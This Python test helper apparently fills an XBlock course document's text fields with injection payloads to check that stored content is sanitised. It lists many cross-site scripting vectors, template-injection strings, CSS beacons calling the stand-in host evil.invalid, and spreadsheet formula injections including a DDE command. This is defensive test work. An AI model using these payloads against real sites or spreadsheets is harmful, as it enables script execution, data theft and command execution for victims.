"""Texts that would run a script, load a page or compute something, wherever one is not only shown.

What runs calls ``hit()`` or asks ``evil.invalid`` for something. Where a mark is left in a page its id is ``pwned``.
"""

import json

from migrempower_xblock.authoring.walking import walk
from migrempower_xblock.schema import AddressPart

SCRIPTS = (
    # elements
    "<script>hit()</script>", "<script src=https://evil.invalid/x.js></script>", "<ScRiPt>hit()</sCrIpT>",
    "<scr<script>ipt>hit()</script>", "<script/x>hit()</script>", "<script\n>hit()</script\n>",
    '<iframe src="javascript:hit()"></iframe>', '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
    '<object data="javascript:hit()"></object>', "<embed src=https://evil.invalid/x.swf>",
    '<meta http-equiv="refresh" content="0;url=https://evil.invalid/">', '<base href="https://evil.invalid/">',
    '<link rel=stylesheet href=https://evil.invalid/x.css>',
    "<form action=https://evil.invalid/><button id=pwned>x</form>",
    "<isindex action=javascript:hit() type=image>", "<template><script>hit()</script></template>",
    "<frameset onload=hit()>", "<marquee onstart=hit()>x</marquee>", "<keygen autofocus onfocus=hit()>",
    # handlers
    "<img src=x onerror=hit()>", '<img src="x" onerror="hit()" id=pwned>', "<img src=x onerror\n=\nhit()>",
    "<img/src=x/onerror=hit()>", "<body onload=hit()>", "<input autofocus onfocus=hit()>", "<a onmouseover=hit()>x</a>",
    "<details open ontoggle=hit()>", "<video><source onerror=hit()></video>", "<audio src=x onerror=hit()>",
    "<select autofocus onfocus=hit()>", "<p onpointerenter=hit() style='position:fixed;inset:0'>x</p>",
    "<x contenteditable onblur=hit() onfocus=hit() autofocus>", "<style onload=hit()></style>",
    # SVG and MathML
    "<svg onload=hit()>", "<svg><script>hit()</script></svg>", "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:hit()"><text y=20>x</text></a></svg>', "<svg/onload=hit()//",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=hit()>#x"></use></svg>',
    '<math><maction actiontype="statusline" xlink:href="javascript:hit()">x</maction></math>',
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror=hit()>",
    "<svg></p><style><a id='</style><img src=x onerror=hit()>'>", "<svg><title><img src=x onerror=hit()></title></svg>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>", "<table><td><svg><desc><td><style><a title='"
    "</style><img src=x onerror=hit()>'>",
    # addresses
    '<a href="javascript:hit()" id=pwned>x</a>', '<a href="&#106;avascript:hit()">x</a>',
    '<a href="jav\tascript:hit()">x</a>',
    '<a href="data:text/html,<script>opener.hit()</script>">x</a>', '<a href=" javascript:hit()">x</a>',
    '<img src="https://evil.invalid/x.png?a=">', "javascript:hit()", "data:text/html,<script>hit()</script>",
    "vbscript:hit()",
    # out of where it stands
    '"><script>hit()</script>', "'><img src=x onerror=hit()>", '" autofocus onfocus="hit()', "' onmouseover='hit()",
    "</script><script>hit()</script>", "</textarea><img src=x onerror=hit()>", "</title><img src=x onerror=hit()>",
    "</style><img src=x onerror=hit()>", "--><img src=x onerror=hit()>", "]]><img src=x onerror=hit()>",
    "<!--<img src='--><img src=x onerror=hit()>'", "</template><img src=x onerror=hit()>",
    "`><img src=x onerror=hit()>",
    '"});hit();({"', "';hit();'", '\\";hit();//', "\\u003cimg src=x onerror=hit()\\u003e", "\u2028hit()\u2029",
    # twice
    "&lt;img src=x onerror=hit()&gt;", "&#60;script&#62;hit()&#60;/script&#62;", "&amp;lt;script&amp;gt;hit()",
    "%3Cscript%3Ehit()%3C/script%3E", "\uff1cscript\uff1ehit()\uff1c/script\uff1e", "<\u0000script>hit()</script>",
    # languages of templates
    "{{ hit() }}", "{{constructor.constructor('hit()')()}}", "${hit()}", "<%= hit() %>", "#{hit()}", "[[${hit()}]]",
    "{% debug %}", "{{ ''.__class__.__mro__ }}", "{name.__class__}", "{0}", "%(name)s", "{n}", "$&", "\\1",
    # styles
    '<p style="background:url(https://evil.invalid/x)">x</p>', "<style>@import 'https://evil.invalid/x.css'</style>",
    '<p style="width:expression(hit())">x</p>', "<style>*{background:url(https://evil.invalid/x)}</style>",
)
FORMULAS = ("=HYPERLINK(\"https://evil.invalid\")", "+hit()", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1",
            "=cmd|' /C calc'!A0",
            "＝1+1", "%0A=1")
ALL = SCRIPTS + FORMULAS
MOST_TOGETHER = 1_900  # of the 2,000 characters a text may have


def shown(payload):
    """Return a payload as a document can hold it."""
    return "".join(each for each in payload if each == "\t" or each == "\n" or ord(each) > 31).replace("\r", " ")


def packed(longest, payloads=ALL):
    """Return the payloads in as few texts as hold ``longest`` characters each."""
    found = [""]
    for payload in map(shown, payloads):
        if len(found[-1]) + len(payload) + 1 > longest:
            found.append("")
        found[-1] += payload[:longest] + " "
    return [each.strip() for each in found]


def without_places(payloads):
    """Return those that a text with gaps can hold: "{" begins a gap there, and "|" parts variants."""
    return [each for each in payloads if "{" not in each and "|" not in each]


def filled(cls, data):
    """Return plain data of a document in which every text, in each of its languages, holds many payloads, and together
    all of them. A text is told from others by a number.
    """
    data, texts = json.loads(json.dumps(data)), 0
    for item in walk(cls, data):
        for name, part, known in item.texts():
            for language in known:
                if isinstance(part, AddressPart):
                    continue
                texts += 1
                short = name in ("accept", "decoy")
                choice = packed(90 if short else MOST_TOGETHER, without_places(ALL) if short or name == "text" and
                                "gaps" in item.data else ALL)
                text = f"{texts} {choice[texts % len(choice)]}"
                if part.place == "rich":
                    text = f"<p>{texts}</p>" + "".join(map(shown, ALL))
                elif "gaps" in item.data and name == "text":
                    text += "".join(f" {{{gap['id']}}}" for gap in item.data["gaps"])
                item.data[name][language] = text
    return data
